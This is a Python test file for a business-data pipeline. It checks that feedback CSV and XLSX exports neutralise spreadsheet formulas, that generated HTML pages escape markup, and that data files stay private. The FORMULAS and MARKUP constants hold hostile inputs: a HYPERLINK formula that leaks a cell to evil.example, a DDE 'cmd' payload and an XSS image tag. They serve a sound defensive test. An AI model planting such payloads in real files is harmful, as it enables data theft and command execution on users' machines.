"""What the project writes for people to open (docs/security.md): the feedback CSV and XLSX never
hold a live formula, Data Docs and the monthly report never render a delivered value as markup,
and everything under the data directory is private to the pipeline's user — on DuckDB and
PostgreSQL, after a real ingest, export and report."""

from __future__ import annotations

import dataclasses
import datetime as dt
import os
import stat
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from bizenv import codes
from bizenv.indicators import compute_snapshot
from bizenv.ingest import ingest_file
from bizenv.quarantine import export_feedback, neutralised
from bizenv.report import write_report
from bizenv.simulator.simulate import CHINESE_HEADERS, DefectRates, simulate
from bizenv.standardize import LOCAL_TIMEZONE
from bizenv.warehouse import make_engine

MONTH = "2024-06"
MARKUP = "<img src=x onerror=alert(1)>"
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击更正")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(A1:A2)", "\t=1+1"]


@pytest.fixture(scope="module")
def month_data():
    return simulate(entities=40, months=(MONTH, MONTH), seed=3, defects=DefectRates.none())


def write(frame: pd.DataFrame, dataset: str, path: Path) -> Path:
    headers = CHINESE_HEADERS[dataset]
    frame[list(headers)].rename(columns=headers).to_csv(path, index=False, encoding="utf-8")
    return path


def hostile_files(data, out: Path) -> dict[str, Path]:
    out.mkdir(parents=True, exist_ok=True)
    registration = data.registration
    template = registration.iloc[0].to_dict()
    extra = []
    for number, formula in enumerate(FORMULAS):
        # a region outside the prefecture quarantines the row: its values go back to the department
        extra.append({**template, "uscc": codes.make_uscc("91", "152921", f"XF{number:06d}"), "name": formula,
                      "legal_rep_name": formula, "region_code": "999999"})
    # markup in a code field: GX's industry-code expectation (a warning) lists it as unexpected
    extra.append({**template, "uscc": codes.make_uscc("91", "152921", "XM000001"), "industry_code": MARKUP})
    paths = {"registration": write(pd.concat([registration, pd.DataFrame(extra)], ignore_index=True),
                                   "registration", out / "registration.csv")}
    case = data.real_estate_case.iloc[0].to_dict()
    company = registration.loc[registration["uscc"] != "", "uscc"].iloc[0]
    cases = pd.DataFrame([{**case, "case_id": "XCASE1", "applicant_type": "企业", "applicant_id": company,
                           "registration_type": MARKUP, "submitted_at": "2024-06-10 09:00:00",
                           "completed_at": "2024-06-12 10:00:00", "updated_at": "2024-06-12 11:00:00"}])
    paths["real_estate_case"] = write(pd.concat([data.real_estate_case, cases], ignore_index=True),
                                      "real_estate_case", out / "real_estate_case.csv")
    return paths


def test_exports_and_pages_are_inert_and_private(warehouse_settings, month_data, tmp_path, monkeypatch):
    monkeypatch.delenv("BIZENV_PII_KEY", raising=False)
    previous = os.umask(0o022)  # a permissive process umask, as a shell or service may leave it
    try:
        settings = dataclasses.replace(warehouse_settings)  # what every entry point does first
        for dataset, path in hostile_files(month_data, tmp_path / "delivered").items():
            summary = ingest_file(settings, dataset, path, max_bad_share=1.0)
            assert summary.status == "loaded", summary
        engine = make_engine(settings.warehouse_url)
        try:
            now_month = dt.datetime.now(LOCAL_TIMEZONE).strftime("%Y-%m")
            exported = export_feedback(engine, "registration", now_month, settings.data_dir / "exports")
            compute_snapshot(engine, MONTH)
            report = settings.reports_dir / f"indicators-{MONTH}.html"
            write_report(engine, MONTH, report)
        finally:
            engine.dispose()
        check_feedback(exported)
        check_pages(settings.docs_dir, report)
        check_private(settings.data_dir)
    finally:
        os.umask(previous)


def check_feedback(exported: list[Path]) -> None:
    csv_path = next(p for p in exported if p.suffix == ".csv")
    xlsx_path = next(p for p in exported if p.suffix == ".xlsx")
    frame = pd.read_csv(csv_path, encoding="gb18030", dtype=str, keep_default_na=False)
    assert len(frame) == len(FORMULAS)
    cells = [v for v in frame.to_numpy().ravel() if v]
    assert not [v for v in cells if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for formula in FORMULAS:
        assert "'" + formula in cells, formula  # shown, as text, not dropped

    sheet = load_workbook(xlsx_path).worksheets[0]
    seen = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (cell.coordinate, cell.value)
                seen.append(cell.value)
    for formula in FORMULAS:
        assert "'" + formula in seen, formula
    # a carriage return cannot come through a delivered CSV (it ends the row there); the rule holds
    assert neutralised("\r=1+1") == "'\r=1+1" and neutralised("-12.5") == "'-12.5"


def check_pages(docs_dir: Path, report: Path) -> None:
    pages = list(docs_dir.rglob("*.html"))
    assert len(pages) >= 3
    for page in pages:
        # the code field reaches GX cleaned like every code: <IMGSRC=XONERROR=ALERT(1)>
        content = page.read_text(encoding="utf-8").lower()
        assert "<imgsrc=x" not in content and "<img src=x" not in content, page
    stored = "".join(p.read_text(encoding="utf-8") for p in docs_dir.rglob("*.json")).lower()
    assert "onerror" not in stored  # the stored results behind the pages keep counts, not values
    html = report.read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in html  # the 登记类型 breakdown, shown escaped
    assert MARKUP not in html


def check_private(data_dir: Path) -> None:
    loose = []
    for path in [data_dir, *data_dir.rglob("*")]:
        mode = stat.S_IMODE(path.stat().st_mode)
        wanted = 0o700 if path.is_dir() else 0o600
        if mode & ~wanted:
            loose.append((str(path.relative_to(data_dir)), oct(mode)))
    kinds = {p.suffix for p in data_dir.rglob("*") if p.is_file()}
    assert {".parquet", ".html", ".csv", ".xlsx", ".key"} <= kinds, kinds
    assert not loose, loose[:10]
